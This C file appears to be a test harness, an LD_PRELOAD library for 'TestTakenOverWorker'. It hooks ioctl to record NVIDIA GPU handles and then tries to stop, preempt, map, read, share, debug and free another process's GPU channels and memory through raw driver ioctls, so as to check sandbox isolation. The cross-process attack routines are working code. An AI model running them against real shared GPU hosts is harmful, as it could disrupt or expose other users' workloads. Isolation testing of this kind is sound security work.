// A worker that was taken over, for TestTakenOverWorker: a library that is loaded into a worker of
// a CUDA context (LD_PRELOAD). It records the handles of what libcuda makes, and when told the
// handles of another worker's it tries, from inside of the confined worker and on the worker's own
// descriptors, to stop, preempt, free, duplicate, map, read and share what those stand for. The
// same is tried with the worker's own handles first, which shows that the attempts are well-formed.
//
// In the directory $RMATTACK it makes, for each process that uses NVIDIA's devices, handles.PID
// (lines "client parent object class"). The test has made the FIFOs attack.N, which takes such lines
// and then "go", and results.N, with N = PID % 64: the keeper's filter lets no process make one. Layouts are those of NVIDIA's open kernel modules (nvos.h, ctrl*.h, uvm_ioctl.h).
//
// gcc -O1 -shared -fPIC -o rmattack.so rmattack.c -ldl -lpthread
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <pthread.h>
#include <signal.h>
#include <stdarg.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/syscall.h>
#include <unistd.h>

typedef struct { uint32_t client, parent, object, class; int fd; } handle;
typedef struct { handle all[4096]; int n; } handles;

static handles own, other;
static int record = -1, results = -1, commands = -1, uvm = -1;
static unsigned char uuid[16];
static pthread_mutex_t mutex = PTHREAD_MUTEX_INITIALIZER;

// Classes; that of a channel ends in 6f in all generations.
enum { ROOT = 0x41, DEVICE = 0x80, SUBDEVICE = 0x2080, GROUP = 0xa06c, VASPACE = 0x90f1, LOCAL = 0x40, SYSTEM = 0x3e };

static const handle none;

// main_client is the client that has the channels: libcuda has several.
static uint32_t main_client(const handles *h) {
	for (int i = 0; i < h->n; i++)
		if (h->all[i].class == GROUP) return h->all[i].client;
	return 0;
}
static const handle *find(const handles *h, uint32_t class) {
	for (int i = 0; i < h->n; i++)
		if (h->all[i].class == class && h->all[i].client == main_client(h)) return &h->all[i];
	return &none;
}
static const handle *channel(const handles *h) {
	for (int i = 0; i < h->n; i++)
		if ((h->all[i].class & 0xff) == 0x6f && h->all[i].client == main_client(h)) return &h->all[i];
	return &none;
}
static void say(const char *format, ...) {
	char line[256];
	va_list a;
	va_start(a, format);
	int n = vsnprintf(line, sizeof line, format, a);
	va_end(a);
	if (write(results, line, n) != n) _exit(9);
}

// shared reports whether both have an object of that number: to name it as the other's would be
// to name one's own.
static int shared(const char *what, uint32_t object) {
	for (int i = 0; i < own.n; i++)
		if (own.all[i].object == object) {
			say("note\tnot tried, since it has such a handle of its own: %s\n", what);
			return 1;
		}
	return 0;
}
static const handle *memory(const handles *h) { // the newest: what the test has allocated
	for (int i = h->n - 1; i >= 0; i--)
		if (h->all[i].class == LOCAL && h->all[i].client == main_client(h)) return &h->all[i];
	return find(h, SYSTEM);
}

static uint32_t request(int nr, size_t size) { return 0xc0000000u | (uint32_t)size << 16 | 'F' << 8 | nr; }

// attempt reports what became of one: the errno of the call, or the driver's status.
static uint32_t attempt(const char *whose, const char *what, int fd, uint32_t req, void *arg, uint32_t *status) {
	*status = 0xffffffff;
	long r = syscall(SYS_ioctl, fd, (unsigned long)req, arg);
	if (r < 0) say("%s\t%s\terrno %d\n", whose, what, errno);
	else say("%s\t%s\tstatus 0x%x\n", whose, what, *status);
	return r < 0 ? 0xffffffff : *status;
}

static uint32_t control(const char *whose, const char *what, int fd, uint32_t client, uint32_t object, uint32_t cmd, void *params, uint32_t size) {
	struct { uint32_t client, object, cmd, flags; uint64_t params; uint32_t size, status; } p = {client, object, cmd, 0, (uint64_t)params, size, 0};
	return attempt(whose, what, fd, request(0x2a, sizeof p), &p, &p.status);
}

static uint32_t allocate(const char *whose, const char *what, int fd, uint32_t client, uint32_t parent, uint32_t object, uint32_t class, void *params, uint32_t size) {
	struct { uint32_t client, parent, object, class; uint64_t params, rights; uint32_t size, flags, status, pad; } p =
		{client, parent, object, class, (uint64_t)params, 0, size, 0, 0, 0};
	return attempt(whose, what, fd, request(0x2b, sizeof p), &p, &p.status);
}

static uint32_t release(const char *whose, const char *what, int fd, uint32_t client, uint32_t parent, uint32_t object) {
	struct { uint32_t client, parent, object, status; } p = {client, parent, object, 0};
	return attempt(whose, what, fd, request(0x29, sizeof p), &p, &p.status);
}

static uint32_t disable(const char *whose, const char *what, int fd, const handle *by, const handles *of, int off) {
	struct { uint8_t off, pad[3]; uint32_t n; uint8_t scheduling, rewind, pad2[6]; uint64_t event; uint32_t clients[64], channels[64]; } p = {0};
	p.off = off;
	for (int i = 0; i < of->n && p.n < 64; i++)
		if ((of->all[i].class & 0xff) == 0x6f) {
			p.clients[p.n] = of->all[i].client;
			p.channels[p.n++] = of->all[i].object;
		}
	return control(whose, what, fd, by->client, by->object, 0x2080110b, &p, sizeof p);
}

enum { NEW = 0x5f00a000 }; // handles that no client has

// group preempts a channel group, and gives it the time slice that it has by default.
static void group(const char *whose, const char *preempt, const char *slice, int fd, uint32_t client, uint32_t object) {
	struct { uint8_t wait, manual; uint16_t pad; uint32_t timeout; } p = {1, 0, 0, 0};
	uint64_t us = 2048;
	control(whose, preempt, fd, client, object, 0xa06c0105, &p, sizeof p);
	control(whose, slice, fd, client, object, 0xa06c0103, &us, sizeof us);
}

static void duplicate(const char *whose, const char *what, int fd, uint32_t parent, const handle *from, uint32_t as) {
	struct { uint32_t client, parent, object, from, what, flags, status; } p =
		{main_client(&own), parent, as, from->client, from->object, 0, 0};
	if (attempt(whose, what, fd, request(0x34, sizeof p), &p, &p.status) == 0)
		release("own", "free the duplicate", fd, p.client, parent, as);
}

static void map_by_uvm(const char *whose, const char *what, int fd, const handle *m, uint64_t base) {
	struct { uint64_t base, length; uint32_t status, pad; } range = {base, 2 << 20, 0, 0};
	struct { uint64_t base, length; uint8_t uuid[16]; uint32_t status, pad; } unmap = {base, 2 << 20, {0}, 0, 0};
	struct { uint64_t base, length, offset; struct { uint8_t uuid[16]; uint32_t type, caching, format, bits, compression; } gpu[256];
		uint64_t n; int32_t fd; uint32_t client, memory, status; } p = {0};
	if (uvm < 0) return;
	attempt("own", "make a range for it (UVM)", uvm, 73, &range, &range.status);
	p.base = base, p.length = 2 << 20, p.n = 1, p.fd = fd, p.client = m->client, p.memory = m->object;
	memcpy(p.gpu[0].uuid, uuid, sizeof uuid);
	if (attempt(whose, what, uvm, 33, &p, &p.status) != 0) return;
	memcpy(unmap.uuid, uuid, sizeof uuid);
	attempt("own", "unmap it (UVM)", uvm, 66, &unmap, &unmap.status);
}

static void map_for_processor(const char *whose, const char *what, int fd, const handle *device, const handle *m) {
	struct { uint32_t client, device, memory, pad; uint64_t offset, length, at; uint32_t status, flags; int32_t fd; uint32_t pad2; } p =
		{m->client, device->object, m->object, 0, 0, 4096, 0, 0, 0, fd, 0};
	attempt(whose, what, fd, request(0x4e, sizeof p), &p, &p.status);
}

// attack tries everything on one set of handles. Of its own it frees and stops nothing.
static void attack(void) {
	const handle *sub = find(&own, SUBDEVICE), *device = find(&own, DEVICE);
	const handle *a_device = find(&other, DEVICE), *a_sub = find(&other, SUBDEVICE);
	const handle *a_group = find(&other, GROUP), *a_channel = channel(&other), *a_memory = memory(&other), *a_space = find(&other, VASPACE);
	uint32_t client = sub->client;
	int fd = sub->fd;
	if (!client || !a_sub->client || !a_group->object || !a_channel->object || !a_memory->object) {
		say("error\tsome handles are missing: own client %x, others' %x, group %x, channel %x, memory %x\n", client, a_sub->client, a_group->object, a_channel->object, a_memory->object);
		return;
	}
	uint32_t a = a_sub->client;

	// What shows that the attempts are well-formed.
	disable("own", "let channels run", fd, sub, &own, 0);
	group("own", "preempt", "set time slice", find(&own, GROUP)->fd, client, find(&own, GROUP)->object);
	duplicate("own", "duplicate memory", fd, device->object, memory(&own), NEW + 1);
	map_by_uvm("own", "map memory (UVM)", fd, memory(&own), 0x600000000000);
	release("own", "free what is not there", fd, client, device->object, NEW + 99);

	// More of its own: the keeper is to know all that runs, and to be the only one who stops and resumes it.
	uint8_t fifo[1024] = {0};
	allocate("own", "make a channel", fd, client, find(&own, GROUP)->object, NEW + 20, channel(&own)->class, fifo, 0);
	allocate("own", "make a channel group", fd, client, device->object, NEW + 21, GROUP, fifo, 0);
	allocate("own", "make a client", fd, 0, 0, 0, ROOT, 0, 0);

	// By the other's client on our descriptor.
	uint32_t ids[32] = {0};
	control("other", "use its client", fd, a, a, 0x201, ids, sizeof ids);
	disable("other", "stop channels, by its subdevice", fd, a_sub, &other, 1);
	group("other", "preempt, by its client", "set time slice, by its client", fd, a, a_group->object);
	uint32_t export[6] = {1, a_device->object, a_sub->object, a_memory->object, (uint32_t)fd, 0};
	control("other", "export memory to a descriptor, by its client", fd, a, a, 0x3d05, export, 24);
	struct { uint32_t engine, subdevice, reason, pending; } reset = {0};
	control("other", "reset a channel", fd, a, a_channel->object, 0x906f0102, &reset, sizeof reset);
	uint32_t zero = 0;
	allocate("other", "make a subdevice under its device", fd, a, a_device->object, NEW + 2, SUBDEVICE, &zero, sizeof zero);
	map_for_processor("other", "map memory for the processor", fd, a_device, a_memory);
	struct { uint32_t client, object; struct { uint32_t target, mask; uint16_t type; uint8_t action, pad; } policy; uint32_t status; } share =
		{a, a_memory->object, {0, 0xffffffff, 1, 0, 0}, 0};
	attempt("other", "share memory with all", fd, request(0x35, sizeof share), &share, &share.status);

	// By our client, naming what is the other's.
	if (!shared("preempt and set time slice, by our client", a_group->object))
		group("other", "preempt, by our client", "set time slice, by our client", fd, client, a_group->object);
	duplicate("other", "duplicate memory", fd, device->object, a_memory, NEW + 3);
	duplicate("other", "duplicate a channel group", fd, device->object, a_group, NEW + 4);
	duplicate("other", "duplicate an address space", fd, device->object, a_space, NEW + 5);
	map_by_uvm("other", "map memory (UVM)", fd, a_memory, 0x600000400000);
	struct { uint8_t uuid[16]; int32_t fd; uint32_t client, space, status; } space = {{0}, fd, a, a_space->object, 0};
	memcpy(space.uuid, uuid, sizeof uuid);
	if (uvm >= 0) attempt("other", "register its address space (UVM)", uvm, 25, &space, &space.status);
	struct { uint32_t id, share, client, device, flags, pad; uint64_t size, start, limit; uint32_t mode, pad2; } dev = {0, a, 0, 0, 0, 0, 0, 0, 0, 0, 0};
	if (allocate("other", "make a device that shares its default address space", fd, client, client, NEW + 6, DEVICE, &dev, sizeof dev) == 0) {
		struct { uint32_t index, flags; uint64_t size, start, limit; uint32_t page, pad; uint64_t base; uint32_t pasid, pad2; } vas = {3, 0, 0, 0, 0, 0, 0, 0, 0, 0};
		if (allocate("other", "have a handle of that address space", fd, client, NEW + 6, NEW + 8, VASPACE, &vas, sizeof vas) == 0) {
			struct { uint8_t uuid[16]; int32_t fd; uint32_t client, space, status; } shared = {{0}, fd, client, NEW + 8, 0};
			memcpy(shared.uuid, uuid, sizeof uuid);
			if (uvm >= 0) attempt("other", "register that address space (UVM)", uvm, 25, &shared, &shared.status);
		}
		release("own", "free that device", fd, client, client, NEW + 6);
	}
	struct { uint32_t obsolete, app, object; } debug = {0, a, a_channel->object};
	if (allocate("other", "make a debugger of it", fd, client, device->object, NEW + 7, 0x83de, &debug, sizeof debug) == 0)
		release("own", "free the debugger", fd, client, device->object, NEW + 7);
	struct { uint32_t client, source, class, index; uint64_t data; } event = {a, a_channel->object, 0x79, 0, (uint64_t)fd};
	allocate("other", "be told of its events", fd, client, client, NEW + 9, 0x79, &event, sizeof event);
	struct { uint32_t client, target; } profile = {a, a_channel->object};
	if (allocate("other", "make a profiler of it", fd, client, sub->object, NEW + 10, 0xb2cc, &profile, sizeof profile) == 0)
		release("own", "free the profiler", fd, client, sub->object, NEW + 10);
	uint32_t clients[1] = {a}, devices[1] = {a_device->object}, channels[1] = {a_channel->object};
	struct { uint32_t client, device, channel, n; uint64_t clients, devices, channels; uint32_t flags, timeout, status, pad; } idle =
		{client, device->object, channel(&own)->object, 1, (uint64_t)clients, (uint64_t)devices, (uint64_t)channels, 0, 1000, 0, 0};
	attempt("other", "wait for its channel to idle", fd, request(0x41, sizeof idle), &idle, &idle.status);
	allocate("other", "make a client with its handle", fd, a, a, a, ROOT, 0, 0);
	if (disable("other", "stop channels, by our subdevice", fd, sub, &other, 1) == 0) {
		say("note\tstopped\n");
		sleep(2); // the test looks whether it stands still
		disable("other", "let them run again", fd, sub, &other, 0);
	}

	// What destroys comes last.
	if (!shared("free memory, by our client", a_memory->object))
		release("other", "free memory, by our client", fd, client, device->object, a_memory->object);
	release("other", "free memory, by its client", fd, a, a_memory->parent, a_memory->object);
	release("other", "free a channel, by its client", fd, a, a_channel->parent, a_channel->object);
	release("other", "free a channel group, by its client", fd, a, a_group->parent, a_group->object);
	release("other", "free its client", fd, a, 0, a);
}

static void *serve(void *unused) {
	char line[128];
	size_t n = 0;
	for (char c; read(commands, &c, 1) == 1;) {
		if (c != '\n') {
			if (n < sizeof line - 1) line[n++] = c;
			continue;
		}
		line[n] = 0;
		n = 0;
		handle h = {0};
		if (sscanf(line, "%x %x %x %x", &h.client, &h.parent, &h.object, &h.class) == 4 && other.n < 4096) other.all[other.n++] = h;
		if (!strcmp(line, "go")) {
			attack();
			say("done\n");
		}
	}
	return unused;
}

// start opens, before the worker is confined, what serve needs.
static void start(void) {
	const char *dir = getenv("RMATTACK");
	char path[512];
	snprintf(path, sizeof path, "%s/handles.%d", dir, getpid());
	record = open(path, O_WRONLY | O_CREAT | O_APPEND | O_CLOEXEC, 0666);
	snprintf(path, sizeof path, "%s/results.%d", dir, getpid() % 64);
	results = open(path, O_RDWR | O_CLOEXEC); // no file of a confined worker's may grow
	snprintf(path, sizeof path, "%s/attack.%d", dir, getpid() % 64);
	if ((commands = open(path, O_RDWR | O_CLOEXEC)) < 0 || record < 0 || results < 0) {
		perror("rmattack");
		_exit(9);
	}
	sigset_t all, before;
	sigfillset(&all); // signals are for the threads of the program
	pthread_sigmask(SIG_BLOCK, &all, &before);
	pthread_t thread;
	if (pthread_create(&thread, 0, serve, 0)) _exit(9);
	pthread_sigmask(SIG_SETMASK, &before, 0);
}

// ioctl is libcuda's way to the devices.
int ioctl(int fd, unsigned long req, ...) {
	va_list a;
	va_start(a, req);
	void *p = va_arg(a, void *);
	va_end(a);
	long r = syscall(SYS_ioctl, fd, req, p);
	if (r < 0) return -1;
	int keep = errno;
	pthread_mutex_lock(&mutex);
	uint32_t nr = req & 0xff, *u = p, size = req >> 16 & 0x3fff;
	if ((req >> 8 & 0xff) == 'F') {
		if (record < 0) start();
		uint32_t status = nr == 0x2b ? u[size == 48 ? 10 : 7] : nr == 0x27 ? u[10] : 1;
		if (status == 0 && own.n < 4096) { // once confined, the file does not grow any more
			handle h = {u[0], u[1], u[2], u[3], fd};
			if (h.class == ROOT || h.class == 0) h.client = h.object, h.class = ROOT;
			own.all[own.n++] = h;
			dprintf(record, "%x %x %x %x\n", h.client, h.parent, h.object, h.class);
		}
	} else if (req == 37) { // UVM_REGISTER_GPU
		uvm = fd;
		memcpy(uuid, p, sizeof uuid);
	}
	pthread_mutex_unlock(&mutex);
	errno = keep;
	return r;
}
